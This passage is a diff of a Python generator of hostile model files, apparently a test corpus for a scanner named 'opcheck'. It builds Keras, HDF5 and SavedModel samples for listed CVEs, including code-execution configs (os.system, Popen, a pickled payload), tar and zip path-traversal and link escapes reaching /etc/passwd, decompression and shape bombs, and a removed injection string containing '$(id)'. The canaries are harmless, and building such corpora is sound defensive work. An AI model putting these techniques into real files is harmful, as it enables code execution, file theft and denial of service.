@@ -1,17 +1,20 @@
 """Makes model files that attack whoever opens them: `python tests/hostile/corpus.py FOLDER`.
 
-Each has a canary: the file ``canary`` that must not appear, a port on this machine that must not be
-called, or a size that must not be allocated. Nothing is committed; a maker writes one file.
+Each has a canary of its own: a file that must not appear, a port on this machine that must not be
+called, a fifo on which whoever opens it hangs, or a size that must not be allocated. Nothing is
+committed; a maker writes one file or folder. What opcheck must say of each is in expected.tsv.
 """
 
 from __future__ import annotations
 
 import base64
+import io
 import json
 import marshal
 import os
 import struct
 import sys
+import tarfile
 import zipfile
 from collections.abc import Callable
 from dataclasses import dataclass
@@ -26,7 +29,7 @@ Config = dict[str, Any]
 
 @dataclass(frozen=True)
 class Bait:
-    """What the files reach for."""
+    """What one file reaches for. ``folder`` is its own, and holds nothing else."""
 
     folder: Path
     port: int
@@ -39,34 +42,54 @@ class Bait:
     def url(self) -> str:
         return f"http://127.0.0.1:{self.port}/vocabulary.txt"
 
-
-@dataclass(frozen=True)
-class Attack:
-    """``hazard`` is the code that `inspect` must give; None: it must refuse the file (exit 2)."""
-
-    name: str
-    make: Callable[[Path, Bait], None]
-    hazard: str | None
+    def trap(self, name: str) -> str:
+        """A path on which whoever opens it hangs."""
+        os.mkfifo(self.folder / name)
+        return str(self.folder / name)
 
 
-ATTACKS: list[Attack] = []
+Make = Callable[[Path, Bait], None]
+ATTACKS: dict[str, Make] = {}
 
 
-def attack(name: str, hazard: str | None) -> Callable[..., Callable[[Path, Bait], None]]:
-    def add(make: Callable[[Path, Bait], None]) -> Callable[[Path, Bait], None]:
-        ATTACKS.append(Attack(name, make, hazard))
+def attack(*names: str) -> Callable[[Make], Make]:
+    def add(make: Make) -> Make:
+        ATTACKS.update(dict.fromkeys(names, make))
         return make
 
     return add
 
 
-def make_all(bait: Bait) -> dict[str, Path]:
-    """Every file, by the attack's name."""
+def archive_attack(name: str) -> Callable[[Make], Make]:
+    """Two attacks: an archive of Keras 3, and the same as Keras 2.15 writes it."""
+
+    def add(make: Make) -> Make:
+        def of_keras_2(path: Path, bait: Bait) -> None:
+            make(path, bait)
+            with zipfile.ZipFile(path) as archive:
+                members = {i.filename: archive.read(i) for i in archive.infolist()}
+            config = members["config.json"].replace(b'"batch_shape"', b'"batch_input_shape"')
+            members |= {"config.json": config, "metadata.json": b'{"keras_version": "2.15.0"}'}
+            with zipfile.ZipFile(path, "w") as archive:
+                for member, content in members.items():
+                    archive.writestr(member, content)
+
+        attack(f"{name}.keras")(make)
+        attack(f"{name}-keras2.keras")(of_keras_2)
+        return make
+
+    return add
+
+
+def make_all(folder: Path, port: int) -> dict[str, tuple[Path, Bait]]:
+    """Every file with its bait, by the attack's name."""
     made = {}
-    for each in ATTACKS:
-        path = bait.folder / each.name
-        each.make(path, bait)
-        made[each.name] = path
+    for name, make in ATTACKS.items():
+        bait = Bait(folder / "baits" / name, port)
+        bait.folder.mkdir(parents=True)
+        path = folder / name
+        make(path, bait)
+        made[name] = path, bait
     return made
 
 
@@ -87,15 +110,27 @@ def function(module: str, name: str) -> Config:
 
 
 def archived(path: Path, *layers: Config, **members: bytes) -> None:
-    """A ``.keras`` archive of a Sequential with an input of four numbers."""
+    """A ``.keras`` archive of a Sequential with an input of four numbers.
+
+    ``members`` are further files in it, or the weights.
+    """
     first = keras3("InputLayer", {"batch_shape": [None, 4], "dtype": "float32", "name": "input"})
     root = keras3("Sequential", {"name": "m", "layers": [first, *layers]}, "keras")
     with zipfile.ZipFile(path, "w") as archive:
         archive.writestr("metadata.json", json.dumps({"keras_version": "3.8.0"}))
         archive.writestr("config.json", json.dumps(root))
-        archive.writestr("model.weights.h5", b"")
-        for name, content in members.items():
+        for name, content in {"model.weights.h5": weights(), **members}.items():
             archive.writestr(name, content)
+
+
+def weights(fill: Callable[[h5py.File], object] = lambda _: None) -> bytes:
+    """An HDF5 file as Keras 3 writes it, ``fill`` adding to it."""
+    file = io.BytesIO()
+    with h5py.File(file, "w") as h5:
+        h5.create_dataset("layers/dense/vars/0", data=np.zeros((4, 2), "f4"))
+        h5.create_dataset("layers/dense/vars/1", data=np.zeros(2, "f4"))
+        fill(h5)
+    return file.getvalue()
 
 
 def legacy(*layers: Config) -> str:
@@ -122,7 +157,10 @@ def stored(path: Path, *layers: Config) -> h5py.File:
     file.attrs["model_config"] = legacy(*(layers or (dense(),)))
     file.attrs["keras_version"] = "2.10.0"
     file.attrs["backend"] = "tensorflow"
-    file.create_group("model_weights").create_group("dense")
+    group = file.create_group("model_weights/dense")
+    group.attrs["weight_names"] = ["dense/kernel:0", "dense/bias:0"]
+    file["model_weights"].attrs["layer_names"] = ["dense"]
+    group["dense/kernel:0"], group["dense/bias:0"] = np.zeros((4, 2), "f4"), np.zeros(2, "f4")
     return file
 
 
@@ -143,8 +181,6 @@ def field(number: int, payload: bytes) -> bytes:
 # -- code in the file
 
 
-@attack("CVE-2024-3660.h5", "lambda")
-@attack("CVE-2025-9905.h5", "lambda")
 def lambda_in_hdf5(path: Path, bait: Bait) -> None:
     config = {"name": "evil", "function": [code(bait), None, None], "function_type": "lambda"}
     config |= {"output_shape": None, "output_shape_type": "raw", "arguments": {}, "module": "m"}
@@ -157,67 +193,142 @@ def _lambda(bait: Bait) -> Config:
     return keras3("Lambda", {"name": "evil", "function": inner, "output_shape": [4]})
 
 
-@attack("CVE-2024-3660.keras", "lambda")
+@archive_attack("CVE-2024-3660")
 def lambda_in_archive(path: Path, bait: Bait) -> None:
     archived(path, _lambda(bait))
 
 
-@attack("CVE-2025-1550.keras", "unsafe-config")
+attack("CVE-2024-3660.h5")(lambda_in_hdf5)
+
+
+@attack("CVE-2025-9905.h5")
+def lambda_of_keras_3_in_hdf5(path: Path, bait: Bait) -> None:
+    """HDF5 has no safe mode: Keras 3 runs what it refuses in an archive."""
+    with stored(path) as h5:
+        first = keras3("InputLayer", {"batch_shape": [None, 4], "name": "input"})
+        layers = [first, _lambda(bait), keras3("Dense", {"name": "dense", "units": 2})]
+        root = {"class_name": "Sequential", "config": {"name": "m", "layers": layers}}
+        h5.attrs["model_config"], h5.attrs["keras_version"] = json.dumps(root), "3.8.0"
+
+
+@archive_attack("keras-23055-nested-lambda")
+def lambda_in_a_wrapper(path: Path, bait: Bait) -> None:
+    """Lambda.from_config, called by another layer's, outside the scope of safe mode."""
+    rows = keras3("Reshape", {"name": "rows", "target_shape": [2, 2]})
+    archived(path, rows, keras3("TimeDistributed", {"name": "outer", "layer": _lambda(bait)}))
+
+
+@archive_attack("CVE-2025-1550")
 def any_function(path: Path, bait: Bait) -> None:
     layer = function("os", "system")
     layer["inbound_nodes"] = [{"args": [f"touch {bait.canary}"], "kwargs": {}}]
     archived(path, layer)
 
 
-@attack("CVE-2025-1550-activation.keras", "unsafe-config")
+@archive_attack("CVE-2025-1550-activation")
 def any_function_as_activation(path: Path, _: Bait) -> None:
     config = {"name": "dense", "units": 2, "activation": function("os", "getcwd")}
     archived(path, keras3("Dense", config))
 
 
-@attack("CVE-2025-8747.keras", "unsafe-config")
-@attack("CVE-2025-12060.keras", "unsafe-config")
-@attack("CVE-2025-12638.keras", "unsafe-config")
-def get_file(path: Path, bait: Bait) -> None:
+@archive_attack("CVE-2025-1550-compile")
+def any_function_as_loss(path: Path, bait: Bait) -> None:
+    """In the compile config, which is rebuilt after the layers."""
+    first = keras3("InputLayer", {"batch_shape": [None, 4], "dtype": "float32", "name": "input"})
+    layers = [first, keras3("Dense", {"name": "dense", "units": 2})]
+    popen = keras3("Popen", {"args": ["touch", str(bait.canary)]}, "subprocess")
+    root = keras3("Sequential", {"name": "m", "layers": layers}, "keras")
+    root["compile_config"] = {"loss": popen, "optimizer": "sgd"}
+    with zipfile.ZipFile(path, "w") as archive:
+        archive.writestr("config.json", json.dumps(root))
+        archive.writestr("model.weights.h5", weights())
+
+
+def _get_file(path: Path, bait: Bait, origin: str, **more: object) -> None:
     layer = function("keras.utils", "get_file")
-    arguments = {"origin": bait.url, "extract": True, "cache_dir": str(bait.folder)}
+    arguments = {"origin": origin, "cache_dir": str(bait.folder), "cache_subdir": "", **more}
     layer["inbound_nodes"] = [{"args": ["canary"], "kwargs": arguments}]
     archived(path, layer)
 
 
-@attack("CVE-2025-9906.keras", "unsafe-config")
+@archive_attack("CVE-2025-8747")
+def get_file(path: Path, bait: Bait) -> None:
+    """A function of Keras' own, which downloads any file to any place."""
+    _get_file(path, bait, bait.url)
+
+
+@archive_attack("CVE-2025-12060")
+def get_file_that_unpacks(path: Path, bait: Bait) -> None:
+    """``../`` in a tar."""
+    _tar(path, bait, [(tarfile.REGTYPE, "a/../../canary", "")])
+
+
+@archive_attack("CVE-2025-12638")
+def get_file_that_unpacks_links(path: Path, bait: Bait) -> None:
+    """A link out of the folder, longer than a path may be, so that nobody resolves it."""
+    deep = "/".join(["d" * 200] * 20)
+    links = [(tarfile.SYMTYPE, "link", f"{deep}/../../.."), (tarfile.REGTYPE, "link/canary", "")]
+    _tar(path, bait, links)
+
+
+@archive_attack("keras-23055-hard-link")
+def get_file_that_unpacks_hard_links(path: Path, bait: Bait) -> None:
+    """A hard link to a file outside, then the same name again with content."""
+    links = [(tarfile.LNKTYPE, "own", str(bait.canary)), (tarfile.REGTYPE, "own", "")]
+    _tar(path, bait, links)
+
+
+@archive_attack("keras-23055-symbolic-link")
+def get_file_that_unpacks_symbolic_links(path: Path, bait: Bait) -> None:
+    links = [(tarfile.SYMTYPE, "out", str(bait.folder)), (tarfile.REGTYPE, "out/canary", "")]
+    _tar(path, bait, links)
+
+
+def _tar(path: Path, bait: Bait, members: list[tuple[bytes, str, str]]) -> None:
+    packed = bait.folder / "packed.tar"
+    with tarfile.open(packed, "w") as tar:
+        for kind, name, target in members:
+            info = tarfile.TarInfo(name)
+            info.type, info.linkname = kind, target
+            tar.addfile(info, io.BytesIO())
+    _get_file(path, bait, packed.as_uri(), extract=True, archive_format="tar")
+
+
+@archive_attack("CVE-2025-9906")
 def switches_safety_off(path: Path, bait: Bait) -> None:
     switch = function("keras.config", "enable_unsafe_deserialization")
     switch["inbound_nodes"] = [{"args": [], "kwargs": {}}]
     archived(path, switch, _lambda(bait))
 
 
-@attack("CVE-2025-12058-file.keras", "external-vocabulary")
+@archive_attack("CVE-2025-12058-file")
 def vocabulary_file(path: Path, bait: Bait) -> None:
-    os.mkfifo(bait.folder / "vocabulary")  # whoever opens it hangs
-    config = {"name": "lookup", "vocabulary": str(bait.folder / "vocabulary")}
+    config = {"name": "lookup", "vocabulary": bait.trap("vocabulary")}
     archived(path, keras3("StringLookup", config))
 
 
-@attack("CVE-2025-12058-url.h5", "external-vocabulary")
+@attack("CVE-2025-12058-url.h5")
 def vocabulary_url(path: Path, bait: Bait) -> None:
     config = {"name": "lookup", "vocabulary": bait.url, "dtype": "string"}
     stored(path, {"class_name": "StringLookup", "config": config}).close()
 
 
-@attack("CVE-2026-1462.keras", "tfsm-layer")
+@archive_attack("CVE-2026-1462")
 def outside_savedmodel(path: Path, bait: Bait) -> None:
-    archived(path, keras3("TFSMLayer", {"name": "evil", "filepath": str(bait.folder / "sm")}))
+    (bait.folder / "elsewhere").mkdir()
+    bait.trap("elsewhere/saved_model.pb")
+    config = {"name": "evil", "filepath": str(bait.folder / "elsewhere")}
+    archived(path, keras3("TFSMLayer", config))
 
 
-@attack("torch-module.keras", "torch-module")
+@archive_attack("torch-module")
 def pickled_module(path: Path, bait: Bait) -> None:
     pickled = base64.b64encode(f"cos\nsystem\n(S'touch {bait.canary}'\ntR.".encode()).decode()
     module = {"class_name": "__bytes__", "config": {"value": pickled}}
     archived(path, keras3("TorchModuleWrapper", {"name": "evil", "module": module}))
 
 
-@attack("standard-library.keras", "unsafe-config")
+@archive_attack("standard-library")
 def standard_library(path: Path, bait: Bait) -> None:
     config = {"args": ["touch", str(bait.canary)]}
     archived(path, keras3("Popen", config, "subprocess"))
@@ -226,24 +337,111 @@ def standard_library(path: Path, bait: Bait) -> None:
 # -- ops that touch files
 
 
+def _attribute(name: str, value: bytes) -> bytes:
+    return field(5, field(1, name.encode()) + field(2, value))
+
+
+_STRING = b"\x30\x07"  # type: DT_STRING
+
+
 def _const(name: str, text: str) -> bytes:
-    tensor = field(4, b"\x08\x07" + field(2, b"") + field(8, text.encode()))[2:]
-    value = field(8, tensor)
-    kind = field(5, field(1, b"dtype") + field(2, b"\x30\x07"))
-    return field(1, field(1, name.encode()) + field(2, b"Const") + kind
-                 + field(5, field(1, b"value") + field(2, value)))  # fmt: skip
+    tensor = field(8, b"\x08\x07" + field(2, b"") + field(8, text.encode()))
+    return field(
+        1,
+        field(1, name.encode())
+        + field(2, b"Const")
+        + _attribute("dtype", _STRING)
+        + _attribute("value", tensor),
+    )
 
 
-@attack("write-file.pb", "file-op")
+def _node(name: str, op: str, *inputs: str, **attributes: bytes) -> bytes:
+    data = field(1, name.encode()) + field(2, op.encode())
+    data += b"".join(field(3, i.encode()) for i in inputs)
+    return field(1, data + b"".join(_attribute(k, v) for k, v in attributes.items()))
+
+
+_FLOATS = {"dtype": b"\x30\x01", "shape": field(7, field(2, b"\x08\x01") + field(2, b"\x08\x04"))}
+
+
+def _graph(bait: Bait, *nodes: bytes) -> bytes:
+    """A frozen model with one input, whose output depends on ``evil``."""
+    del bait
+    type_ = {"T": b"\x30\x01"}
+    model = [_node("x", "Placeholder", **_FLOATS), _node("y", "Relu", "x", "^evil", **type_)]
+    return b"".join([*model, *nodes])
+
+
+@attack("write-file.pb")
 def writes_a_file(path: Path, bait: Bait) -> None:
-    write = field(1, b"evil") + field(2, b"WriteFile") + field(3, b"a") + field(3, b"b")
-    path.write_bytes(_const("a", str(bait.canary)) + _const("b", "x") + field(1, write))
+    consts = _const("a", str(bait.canary)) + _const("b", "x")
+    path.write_bytes(_graph(bait, consts, _node("evil", "WriteFile", "a", "b")))
+
+
+@attack("print-to-file.pb")
+def prints_to_a_file(path: Path, bait: Bait) -> None:
+    """``tf.print`` with a file for a stream: an op that mostly is harmless."""
+    stream = field(2, f"file://{bait.canary}".encode())
+    write = _node("evil", "PrintV2", "b", output_stream=stream, end=field(2, b"\n"))
+    path.write_bytes(_graph(bait, _const("b", "x"), write))
+
+
+@attack("print-to-file.h5")
+def layer_that_prints_to_a_file(path: Path, bait: Bait) -> None:
+    """The same in a layer of Keras 2."""
+    stream = base64.b64encode(f"file://{bait.canary}".encode()).decode()
+    node = {"name": "p", "op": "PrintV2", "input": ["x"], "attr": {"output_stream": {"s": stream}}}
+    config = {"name": "evil", "trainable": True, "node_def": json.dumps(node), "constants": {}}
+    stored(path, {"class_name": "TensorFlowOpLayer", "config": config}, dense()).close()
+
+
+def _savedmodel(path: Path, *meta_graphs: bytes) -> None:
+    (path / "variables").mkdir(parents=True)
+    graphs = b"".join(field(2, meta) for meta in meta_graphs)
+    (path / "saved_model.pb").write_bytes(b"\x08\x01" + graphs)
+
+
+def _meta_graph(graph: bytes, saver: bytes = b"", collections: bytes = b"") -> bytes:
+    info = field(1, field(4, b"serve"))
+    output = field(2, field(1, b"y") + field(2, field(1, b"y:0") + b"\x10\x01"))
+    given = field(1, field(1, b"x") + field(2, field(1, b"x:0") + b"\x10\x01"))
+    signature = field(5, field(1, b"serving_default") + field(2, given + output))
+    return info + field(2, graph) + saver + collections + signature
+
+
+_PLAIN = _node("x", "Placeholder", **_FLOATS) + _node("y", "Relu", "x", T=b"\x30\x01")
+
+
+@attack("second-graph-savedmodel")
+def savedmodel_with_two_graphs(path: Path, bait: Bait) -> None:
+    """TensorFlow takes the one with the tag that it wants."""
+    consts = _const("a", str(bait.canary)) + _const("b", "x")
+    evil = _graph(bait, consts, _node("evil", "WriteFile", "a", "b"))
+    _savedmodel(path, field(2, _PLAIN), _meta_graph(evil))
+
+
+@attack("saver-savedmodel")
+def savedmodel_that_saves_when_it_loads(path: Path, bait: Bait) -> None:
+    """Ops that are no hazard in the saver, named as what restores the variables."""
+    consts = _const("a", str(bait.canary)) + _const("n", "name") + _const("s", "")
+    save = _node("evil", "SaveV2", "a", "n", "s", "n", dtypes=field(1, b"\x30\x07"))
+    saver = field(3, field(1, b"a:0") + field(2, b"evil:0") + field(3, b"evil"))
+    _savedmodel(path, _meta_graph(_PLAIN + consts + save, saver))
+
+
+@attack("init-op-savedmodel")
+def savedmodel_with_an_initializer(path: Path, bait: Bait) -> None:
+    consts = _const("a", str(bait.canary)) + _const("b", "x")
+    names = field(1, field(1, b"evil"))
+    collection = field(4, field(1, b"saved_model_main_op") + field(2, names))
+    evil = _node("evil", "WriteFile", "a", "b")
+    _savedmodel(path, _meta_graph(_PLAIN + consts + evil, collections=collection))
 
 
 # -- archives
 
 
-def _named(name: str) -> Callable[[Path, Bait], None]:
+def _named(name: str) -> Make:
     def make(path: Path, _: Bait) -> None:
         archived(path, keras3("Dense", {"name": "d", "units": 2}), **{name: b"x"})
 
@@ -253,24 +451,65 @@ def _named(name: str) -> Callable[[Path, Bait], None]:
 for _index, _name in enumerate(
     ("../canary", "/tmp/canary", "a/../../canary", "C:/canary", "..\\canary", "a\x1b[31mb\n")
 ):
-    attack(f"GHSA-hqp4-2352-xf5r-{_index}.keras", None)(_named(_name))
+    attack(f"GHSA-hqp4-2352-xf5r-{_index}.keras")(_named(_name))
 
 
-@attack("archive-link.keras", None)
-def archive_link(path: Path, _: Bait) -> None:
+def _linked(path: Path, name: str, target: str, *below: str) -> None:
     with zipfile.ZipFile(path, "w") as archive:
-        link = zipfile.ZipInfo("config.json")
+        link = zipfile.ZipInfo(name)
         link.external_attr = 0o120777 << 16
-        archive.writestr(link, "/etc/passwd")
+        archive.writestr(link, target)
+        for each in below:
+            archive.writestr(each, b"x")
+        if name != "config.json":
+            archive.writestr("config.json", legacy(dense()))
 
 
-@attack("archive-bomb.keras", None)
+@attack("archive-link.keras")
+def archive_link(path: Path, _: Bait) -> None:
+    _linked(path, "config.json", "/etc/passwd")
+
+
+@attack("archive-link-above.keras")
+def archive_link_above(path: Path, bait: Bait) -> None:
+    _linked(path, "assets", str(bait.folder), "assets/canary")
+
+
+@attack("archive-bomb.keras")
 def archive_bomb(path: Path, _: Bait) -> None:
     with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
         archive.writestr("config.json", b" " * 2**26)
 
 
-@attack("archive-twice.keras", None)
+@attack("archive-size.keras")
+def archive_size(path: Path, _: Bait) -> None:
+    """A config that is as large as it says, and too large."""
+    with zipfile.ZipFile(path, "w") as archive:
+        archive.writestr("config.json", b" " * (2**25 + 1))
+
+
+@attack("archive-size-lies.keras")
+def archive_size_lies(path: Path, _: Bait) -> None:
+    """A bomb that says it is small."""
+    archive_bomb(path, _)
+    data = path.read_bytes()
+    path.write_bytes(data.replace(struct.pack("<I", 2**26), struct.pack("<I", 2**12)))
+
+
+@attack("archive-overlap.keras")
+def archive_overlap(path: Path, _: Bait) -> None:
+    """A thousand names for the same bytes."""
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("config.json", legacy(dense()))
+        archive.writestr("a", os.urandom(2**16) * 64)
+        for index in range(1000):
+            again = zipfile.ZipInfo(f"b{index}")
+            for name in ("header_offset", "file_size", "compress_size", "CRC", "compress_type"):
+                setattr(again, name, getattr(archive.NameToInfo["a"], name))
+            archive.filelist.append(again)
+
+
+@attack("archive-twice.keras")
 def archive_twice(path: Path, _: Bait) -> None:
     with zipfile.ZipFile(path, "w") as archive:
         archive.writestr("config.json", legacy(dense()))
@@ -280,16 +519,16 @@ def archive_twice(path: Path, _: Bait) -> None:
         archive.filelist[0].filename = "config.json"
 
 
-@attack("archive-nested.keras", None)
-def archive_nested(path: Path, _: Bait) -> None:
+@attack("archive-nested.keras")
+def archive_nested(path: Path, bait: Bait) -> None:
     inner = path.with_suffix(".inner")
-    archive_bomb(inner, _)
+    archive_bomb(inner, bait)
     with zipfile.ZipFile(path, "w") as archive:
         archive.write(inner, "config.json")
     inner.unlink()
 
 
-@attack("archive-directory.keras", None)
+@attack("archive-directory.keras")
 def archive_directory(path: Path, _: Bait) -> None:
     """A directory of 3 GB, most of it a hole in the file."""
     size = 3 * 2**30
@@ -301,71 +540,151 @@ def archive_directory(path: Path, _: Bait) -> None:
         file.write(end)
 
 
-@attack("archive-members.keras", None)
+@attack("archive-members.keras")
 def archive_members(path: Path, _: Bait) -> None:
     with zipfile.ZipFile(path, "w") as archive:
         for index in range(10_001):
             archive.writestr(f"{index}", b"")
 
 
+@attack("weights-bomb.keras")
+def weights_bomb(path: Path, _: Bait) -> None:
+    """Weights that are much larger once unpacked."""
+    archived(path, keras3("Dense", {"name": "dense", "units": 2}), **{"model.weights.h5": b""})
+    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
+        mixed = os.urandom(2**13) + b"\0" * (2**20 - 2**13)  # below the ratio that is refused
+        with archive.open("model_00001.weights.h5", "w", force_zip64=True) as member:
+            for _block in range(300):
+                member.write(mixed)
+
+
+@attack("keras-23055-npz.keras")
+def npz_bomb(path: Path, _: Bait) -> None:
+    """Weights as an archive of arrays that declares far more than it stores."""
+    header = repr({"descr": "<f4", "fortran_order": False, "shape": (2**40,)}).encode() + b"\n"
+    array = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header
+    inner = io.BytesIO()
+    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("layers/dense.npy", array + b"\0" * 2**20)
+    layer = keras3("Dense", {"name": "dense", "units": 2})
+    archived(path, layer, **{"model.weights.npz": inner.getvalue()})
+
+
 # -- HDF5
 
-
-@attack("CVE-2026-1669-link.h5", "external-file")
-def external_link(path: Path, bait: Bait) -> None:
-    os.mkfifo(bait.folder / "elsewhere.h5")
-    with stored(path) as h5:
-        h5["model_weights/dense/kernel"] = h5py.ExternalLink(str(bait.folder / "elsewhere.h5"), "k")
+# Every component of the path to a weight, as Keras 2 and as Keras 3 (in an archive) store it.
+_LEGACY = "model_weights/dense/dense/kernel:0"
+_KERAS_3 = "layers/dense/vars/0"
 
 
-@attack("CVE-2026-1669-component.h5", "external-file")
-def external_link_above(path: Path, _: Bait) -> None:
-    with stored(path) as h5:
-        del h5["model_weights"]
-        h5["model_weights"] = h5py.ExternalLink("/etc/passwd", "/")
+def _replaced(h5: h5py.File, path: str, by: object) -> None:
+    del h5[path]
+    h5[path] = by
 
 
-@attack("CVE-2026-1669-storage.h5", "external-file")
-def external_storage(path: Path, _: Bait) -> None:
-    with stored(path) as h5:
-        h5.create_dataset("model_weights/dense/k", (4,), "u1", external=[("/etc/passwd", 0, 4)])
+def _links(kind: str, path_to: Callable[[Bait], str]) -> None:
+    """Attacks with a link in the place of each component."""
+
+    def link(bait: Bait) -> object:
+        target = path_to(bait)
+        return h5py.ExternalLink(target, "/x") if kind == "external" else h5py.SoftLink(target)
+
+    for depth in range(1, 5):
+        legacy_path = "/".join(_LEGACY.split("/")[:depth])
+        archive_path = "/".join(_KERAS_3.split("/")[:depth])
+
+        def in_hdf5(path: Path, bait: Bait, replaced: str = legacy_path) -> None:
+            with stored(path) as h5:
+                _replaced(h5, replaced, link(bait))
+
+        def in_archive(path: Path, bait: Bait, replaced: str = archive_path) -> None:
+            content = weights(lambda h5: _replaced(h5, replaced, link(bait)))
+            layer = keras3("Dense", {"name": "dense", "units": 2})
+            archived(path, layer, **{"model.weights.h5": content})
+
+        attack(f"CVE-2026-1669-{kind}-link-{depth}.h5")(in_hdf5)
+        attack(f"CVE-2026-1669-{kind}-link-{depth}.keras")(in_archive)
 
 
-@attack("hdf5-virtual.h5", "external-file")
-def virtual_dataset(path: Path, bait: Bait) -> None:
-    os.mkfifo(bait.folder / "source.h5")
+_links("external", lambda bait: bait.trap("elsewhere.h5"))
+_links("soft", lambda _: "/model_weights")
+
+
+def _weights_attack(name: str) -> Callable[[Callable[[h5py.Group, Bait], None]], None]:
+    """An attack on the group of a layer's weights, in an HDF5 file and inside an archive."""
+
+    def add(fill: Callable[[h5py.Group, Bait], None]) -> None:
+        def in_hdf5(path: Path, bait: Bait) -> None:
+            with stored(path) as h5:
+                fill(h5["model_weights/dense"], bait)
+
+        def in_archive(path: Path, bait: Bait) -> None:
+            content = weights(lambda h5: fill(h5["layers/dense"], bait))
+            layer = keras3("Dense", {"name": "dense", "units": 2})
+            archived(path, layer, **{"model.weights.h5": content})
+
+        attack(f"{name}.h5")(in_hdf5)
+        attack(f"{name}.keras")(in_archive)
+
+    return add
+
+
+@_weights_attack("CVE-2026-1669-storage")
+def external_storage(group: h5py.Group, _: Bait) -> None:
+    group.create_dataset("k", (4,), "u1", external=[("/etc/passwd", 0, 4)])
+
+
+@_weights_attack("keras-23055-virtual")
+def virtual_dataset(group: h5py.Group, bait: Bait) -> None:
     layout = h5py.VirtualLayout((4,), "f4")
-    layout[:] = h5py.VirtualSource(str(bait.folder / "source.h5"), "x", (4,))
+    layout[:] = h5py.VirtualSource(bait.trap("source.h5"), "x", (4,))
+    group.create_virtual_dataset("k", layout)
+
+
+@_weights_attack("GHSA-xfhx-r7ww-5995")
+def shape_bomb(group: h5py.Group, _: Bait) -> None:
+    """A pebibyte that is stored nowhere."""
+    group.create_dataset("k", (2**48,), "f4", chunks=(2**20,))
+
+
+@_weights_attack("hdf5-soft-cycle")
+def soft_cycle(group: h5py.Group, _: Bait) -> None:
+    group["a"], group["b"] = h5py.SoftLink(f"{group.name}/b"), h5py.SoftLink(f"{group.name}/a")
+
+
+@_weights_attack("hdf5-hard-cycle")
+def hard_cycle(group: h5py.Group, _: Bait) -> None:
+    group["up"] = group.parent
+
+
+@attack("hdf5-many-objects.h5")
+def many_objects(path: Path, _: Bait) -> None:
+    """More than are looked through; what comes after them may be anything."""
+    small = h5py.h5p.create(h5py.h5p.GROUP_CREATE)
+    small.set_link_creation_order(h5py.h5p.CRT_ORDER_TRACKED)  # groups of the newer kind
     with stored(path) as h5:
-        h5.create_virtual_dataset("model_weights/dense/kernel", layout)
+        for index in range(100_001):
+            h5py.h5g.create(h5["model_weights"].id, b"%d" % index, gcpl=small)
 
 
-@attack("hdf5-soft-cycle.h5", "external-file")
-def soft_cycle(path: Path, _: Bait) -> None:
-    with stored(path) as h5:
-        h5["model_weights/a"] = h5py.SoftLink("/model_weights/b")
-        h5["model_weights/b"] = h5py.SoftLink("/model_weights/a")
-        h5["model_weights/dense/up"] = h5["model_weights"]
-
-
-@attack("GHSA-xfhx-r7ww-5995.h5", "lambda")
-def shape_bomb(path: Path, bait: Bait) -> None:
-    """Weights of a pebibyte; the Lambda only shows that the file is read to its end."""
-    lambda_in_hdf5(path, bait)
-    with h5py.File(path, "a") as h5:
-        h5.create_dataset("model_weights/dense/kernel", (2**48,), "f4", chunks=(2**20,))
-
-
-@attack("hdf5-attribute-bomb.h5", None)
+@attack("hdf5-attribute-bomb.h5")
 def attribute_bomb(path: Path, _: Bait) -> None:
     with h5py.File(path, "w", libver="latest") as h5:
         h5.attrs["model_config"] = np.bytes_(b" " * (40 * 2**20))
 
 
-@attack("hdf5-attribute-shape.h5", None)
+@attack("hdf5-attribute-shape.h5")
 def attribute_shape(path: Path, _: Bait) -> None:
     with h5py.File(path, "w", libver="latest") as h5:
         h5.attrs.create("model_config", np.zeros(2**20, "S8"))
+
+
+@attack("hdf5-attribute-many.h5")
+def attribute_many(path: Path, _: Bait) -> None:
+    with h5py.File(path, "w", libver="latest") as h5:
+        h5.attrs["model_config"] = legacy(dense())
+        for index in range(50_000):
+            h5.attrs[f"{index}"] = 1
 
 
 # -- configs
@@ -376,34 +695,34 @@ def _text(path: Path, text: bytes) -> None:
         archive.writestr("config.json", text)
 
 
-@attack("json-deep.keras", None)
+@attack("json-deep.keras")
 def json_deep(path: Path, _: Bait) -> None:
     _text(path, b'{"config":' * 300 + b"1" + b"}" * 300)
 
 
-@attack("json-deeper.keras", None)
+@attack("json-deeper.keras")
 def json_deeper(path: Path, _: Bait) -> None:
     _text(path, b"[" * 1_000_000)
 
 
-@attack("json-values.keras", None)
+@attack("json-values.keras")
 def json_values(path: Path, _: Bait) -> None:
     _text(path, b'{"a":[' + b"[]," * 3_000_000 + b"0]}")
 
 
-@attack("json-number.keras", None)
+@attack("json-number.keras")
 def json_number(path: Path, _: Bait) -> None:
     _text(path, b'{"a":' + b"9" * 1_000_000 + b"}")
 
 
-@attack("path-bomb.keras", None)
+@attack("path-bomb.keras")
 def path_bomb(path: Path, _: Bait) -> None:
     """Each layer's path holds the name of the model above it."""
     layers = [keras3("Dense", {"name": "d", "units": 1})] * 10_000
     archived(path, keras3("Sequential", {"name": "x" * 2**20, "layers": layers}, "keras"))
 
 
-@attack("bidirectional-bomb.h5", None)
+@attack("bidirectional-bomb.h5")
 def bidirectional_bomb(path: Path, _: Bait) -> None:
     layer = {"class_name": "LSTM", "config": {"name": "l", "units": 1}}
     for _level in range(60):
@@ -411,15 +730,111 @@ def bidirectional_bomb(path: Path, _: Bait) -> None:
     stored(path, layer).close()
 
 
-NAME = "a\x1b]0;x\x07/../<script>alert(1)</script>|`$(id)`\r\n::error::"
+@attack("units-bomb.h5")
+def units_bomb(path: Path, _: Bait) -> None:
+    """A layer whose weights no memory holds; Keras makes them as it builds it."""
+    stored(path, dense(units=2**40)).close()
 
 
-@attack("names.h5", "custom-layer")
+def functional(path: Path, *layers: Config) -> None:
+    """A Keras 2 model: input ``i``, then ``layers``, of which the last one is the output."""
+    first = {"batch_input_shape": [None, 4], "dtype": "float32", "name": "i"}
+    head = {"class_name": "InputLayer", "name": "i", "config": first, "inbound_nodes": []}
+    last = layers[-1]["name"]
+    config = {"name": "m", "layers": [head, *layers], "input_layers": [["i", 0, 0]]}
+    root = {"class_name": "Functional", "config": {**config, "output_layers": [[last, 0, 0]]}}
